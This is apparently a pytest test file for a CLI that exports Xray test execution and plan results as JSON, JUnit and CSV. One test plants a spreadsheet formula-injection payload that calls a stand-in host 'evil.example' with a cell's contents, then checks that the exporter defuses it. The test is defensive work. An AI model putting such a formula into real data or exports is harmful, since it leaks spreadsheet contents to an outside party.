"""`results export`: what Xray stores of a Test Execution or a Test Plan, in three formats, on both products."""

import csv
import json
import tracemalloc
from types import SimpleNamespace

import pytest
from job_runs import case, results, suite
from junitparser import JUnitXml

from xray_ci.deployments import DEPLOYMENTS
from xray_ci.exchange.results import _FORMATS, _Counted, cell
from xray_ci.services.store import RunDetails

PASSED = {"cloud": "PASSED", "server": "PASS"}
FAILED = {"cloud": "FAILED", "server": "FAIL"}
TO_DO = {"cloud": "TO DO", "server": "TODO"}


@pytest.fixture
def export(inside, side, workspace):
    """Export on one product; return the result and the text of the file, None where there is none."""

    def run(*arguments, **changes):
        result = inside("results", "export", "--output", "out/file", *arguments, on=side, **changes)
        assert "Traceback" not in result.text
        path = workspace / "out/file"
        return result, path.read_text("utf-8") if path.exists() else None

    return run


def test_xray_json_is_read_back(export, inside, side, workspace, emulator):
    """By inspect, and by an import, which makes a Test Execution with the same results."""
    result, text = export(test_execution="SHOP-40")
    (workspace / "copy.json").write_text(text)
    seen = inside("inspect", "--json", reports="copy.json")
    imported = inside("import", on=side, reports="copy.json", job_summary="false")
    tests = json.loads(text)["tests"]

    assert result.code == 0, result.text
    assert "5 results written to out/file" in result.text
    assert [each["testKey"] for each in tests] == ["SHOP-1", "SHOP-3", "SHOP-4", "SHOP-6", "SHOP-7"]
    assert tests[3] == {
        "testKey": "SHOP-6",
        "status": FAILED[side],
        "start": "2024-01-01T22:00:00Z",
        "finish": "2024-01-01T22:04:00Z",
        "comment": "expected 0 items but was 1",
    }
    assert [json.loads(seen.out)[name] for name in ("format", "tests", "passed", "failed")] == ["xray-json", 5, 3, 1]
    assert imported.code == 0, imported.text
    words = {"PASSED": PASSED[side], "FAILED": FAILED[side], "TO DO": TO_DO[side]}
    [made] = emulator.executions()
    assert results(made) == {(key, words[run["status"]]) for key, run in emulator.runs("SHOP-40").items()}


def test_a_plan_is_all_of_its_executions(export, inside, side, emulator, workspace):
    """Oldest first; what was imported since is there, too; JUnit has a suite for each."""
    (workspace / "a.xml").write_text(suite("a", case("adds"), case("removes", '<failure message="boom">no</failure>')))
    inside("import", on=side, reports="a.xml", test_plan="SHOP-2", job_summary="false")
    [made] = emulator.executions()
    result, text = export("--to", "junit", test_plan="SHOP-2")
    suites = [*JUnitXml.fromstring(text)]
    seen = inside("inspect", "--json", reports="out/file", format="junit")

    assert result.code == 0, result.text
    assert [(each.name, each.tests, each.failures, each.skipped) for each in suites] == [
        ("SHOP-40", 5, 1, 1),
        (made["key"], 2, 1, 0),
    ]
    assert 'name="test_key" value="SHOP-6"' in text
    assert "expected 0 items but was 1" in text
    assert [json.loads(seen.out)[name] for name in ("tests", "passed", "failed", "skipped")] == [7, 4, 2, 1]


def test_csv_is_no_program(export, emulator, side):
    """Begins of formulas are disarmed in every cell; nothing else changes."""
    evil = '=HYPERLINK("http://evil.example/?"&A1)'
    run = emulator.runs("SHOP-40")["SHOP-6"]["id"]
    if side == "cloud":
        query = "mutation($id: String!, $c: String!) { updateTestRunComment(id: $id, comment: $c) }"
        assert "errors" not in emulator.graphql(query, id=run, c=evil).json()
    else:
        path = f"/jira/rest/raven/2.0/api/testrun/{run}/comment"
        answer = emulator.call(
            "PUT", path, evil.encode(), Content_Type="text/plain", Authorization="Bearer emulator-pat"
        )
        assert answer.status < 300
    result, text = export("--to", "csv", test_execution="SHOP-40")
    rows = [*csv.DictReader(text.splitlines())]

    assert result.code == 0, result.text
    assert [row["test"] for row in rows] == ["SHOP-1", "SHOP-3", "SHOP-4", "SHOP-6", "SHOP-7"]
    assert (rows[3]["comment"], rows[3]["summary"], rows[3]["type"]) == ("'" + evil, "removes_item", "Generic")
    assert rows[3]["status"] == FAILED[side]
    assert rows[0]["executed-by"] == ""


def test_defects_are_keys(export, inside, emulator, side):
    """On Cloud only ids are known: Jira is asked where it can be, else they are counted."""
    run = emulator.runs("SHOP-40")["SHOP-6"]["id"]
    add = "mutation($id: String!, $d: [String]!) { addDefectsToTestRun(id: $id, issues: $d) { addedDefects } }"
    assert "errors" not in emulator.graphql(add, id=run, d=["SHOP-9"]).json()
    alone, without = export(test_execution="SHOP-40")
    jira = {"jira_url": emulator.url, "jira_username": "dev@example.com", "jira_token": "emulator-jira-token"}
    _, named = export(test_execution="SHOP-40", **(jira if side == "cloud" else {}))

    assert json.loads(named)["tests"][3]["defects"] == ["SHOP-9"]
    assert ("1 defect left out" in alone.text) is (side == "cloud")
    assert ("defects" in without) is (side == "server")


@pytest.mark.parametrize(
    ("arguments", "changes", "code", "words"),
    [
        ([], {}, 2, "which results"),
        (["--to", "pdf"], {"test_execution": "SHOP-40"}, 2, "no format"),
        ([], {"test_execution": "SHOP-2"}, 6, "no Test Execution"),
        ([], {"test_execution": "SHOP-99"}, 6, "no Test Execution"),
        ([], {"test_plan": "SHOP-40"}, 6, ""),
    ],
)
def test_what_cannot_be_exported_is_told(export, arguments, changes, code, words):
    """With its own exit code, and without a file."""
    result, text = export(*arguments, **changes)

    assert (result.code, text) == (code, None), result.text
    assert words in result.text


def test_a_failure_in_the_middle_leaves_the_old_file(export, emulator, side, workspace):
    """What is there is whole."""
    export(test_execution="SHOP-40")
    before = (workspace / "out/file").read_text()
    emulator.fault(
        *(("POST", "/api/v2/graphql") if side == "cloud" else ("POST", "/jira/rest/api/latest/search")),
        status=400,
        skip=1,
    )
    result, after = export(test_execution="SHOP-40")

    assert result.code != 0
    assert (before, sorted(path.name for path in (workspace / "out").iterdir())) == (after, ["file"])


def test_runs_come_in_pages(export, inside, side, workspace, emulator):
    """A hundred at a time, each once."""
    (workspace / "a.xml").write_text(suite("a", *(case(f"t{number}") for number in range(250))))
    inside("import", on=side, reports="a.xml", job_summary="false", reconcile="false")
    [made] = emulator.executions()
    before = len(emulator.requests())
    result, text = export(test_execution=made["key"])
    asked = [each for each in emulator.requests()[before:] if "testruns" in each["path"] or "graphql" in each["path"]]

    assert result.code == 0, result.text
    assert len({each["testKey"] for each in json.loads(text)["tests"]}) == 250
    assert len(asked) == 4  # on Cloud one looks for the Test Execution, on Server the last one brings nothing new


@pytest.mark.proof
@pytest.mark.parametrize("form", ["xray-json", "junit", "csv"])
def test_memory_does_not_grow_with_results(form, tmp_path):
    """What was written is not held."""
    run = RunDetails(
        execution="SHOP-40",
        test="SHOP-6",
        summary="removes_item",
        type="Generic",
        status="FAILED",
        comment="expected \x00 0 items\n" * 50,
        started=None,
        finished=None,
        executed_by=None,
        defects=("SHOP-9",),
        evidence=("a.txt",),
    )
    job = SimpleNamespace(work=SimpleNamespace(path=tmp_path))
    site = SimpleNamespace(deployment=DEPLOYMENTS["cloud"])

    def peak(count):
        rows = _Counted((run for _ in range(count)), site)
        with (tmp_path / "file").open("w+b") as file:
            tracemalloc.start()
            _FORMATS[form](job, site, rows, file)
            most = tracemalloc.get_traced_memory()[1]
            tracemalloc.stop()
        assert rows.count == count
        return most

    # The least of some: a thread that another test left may need memory meanwhile.
    few, many = (min(peak(count) for _ in range(3)) for count in (10, 2_000))

    assert (tmp_path / "file").stat().st_size > 1_900_000
    assert many < few + 500_000


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", " =1", "\uff1d1"])
def test_a_cell_that_looks_like_a_formula_is_text(text):
    """Also behind blanks, and in wide signs."""
    assert cell(text) == "'" + text
    assert cell("a" + text) == "a" + text
